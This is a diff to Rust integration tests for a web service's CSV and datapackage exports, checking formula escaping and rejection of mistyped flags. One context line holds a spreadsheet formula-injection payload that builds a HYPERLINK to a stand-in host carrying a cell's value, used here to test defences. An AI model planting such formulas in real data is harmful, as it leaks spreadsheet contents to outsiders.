@@ -711,6 +711,17 @@ async fn formula_like_text_gets_a_leading_quote_in_every_csv_while_numbers_stay_
         assert_eq!(omitted[0]["name"], "han-che");
         assert!(!omitted[0]["reason"].as_str().unwrap().is_empty() && !omitted[0]["reason_en"].as_str().unwrap().is_empty(), "{omitted:?}");
         assert!(meta["resources"].as_array().unwrap().iter().any(|r| r["name"] == "cong-thuc"));
+        // The package takes the same flag as exports, and refuses a typo
+        // rather than writing an unprotected file.
+        let zip = app.get("/api/v1/databases/26/datapackage.zip?escape_formulas=false").await;
+        assert_eq!(zip.status, StatusCode::OK, "{engine:?}: {}", zip.text());
+        let mut csv = Vec::new();
+        zip::ZipArchive::new(std::io::Cursor::new(zip.body)).unwrap().by_name("data/cong-thuc.csv").unwrap().read_to_end(&mut csv).unwrap();
+        assert_eq!(column(&csv_rows(&csv), "ghi_chu"), raw, "{engine:?}: datapackage escape_formulas=false");
+        for bad in ["escape_formulas=yes", "escape_formula=false"] {
+            let r = app.get(&format!("/api/v1/databases/26/datapackage.zip?{bad}")).await;
+            assert_eq!(r.status, StatusCode::BAD_REQUEST, "{engine:?}: {bad}: {}", r.text());
+        }
 
         // The audit log: a username is whatever a client sends.
         let evil = "=HYPERLINK(\"http://x.example/?\"&A1)";
@@ -1379,8 +1390,8 @@ async fn the_sqlite_data_directory_and_database_are_private_to_the_service_user(
 // 16. No connection in time: 503 with Retry-After.
 
 /// Holds every connection a request of this kind needs, asks, and expects
-/// a 503 once the pool gives up (sqlx's wait: 30 s for SQLite's writer,
-/// 10 s on PostgreSQL, as configured in chiase_store::db).
+/// a 503 once the pool gives up (`StoreConfig::DEFAULT_ACQUIRE_TIMEOUT`,
+/// the `db_acquire_timeout_secs` setting when serving).
 async fn pool_exhausted(engine: Engine) {
     let app = TestApp::spawn(engine).await;
     app.person("cong.dan", None, Role::Member, PASSWORD).await;
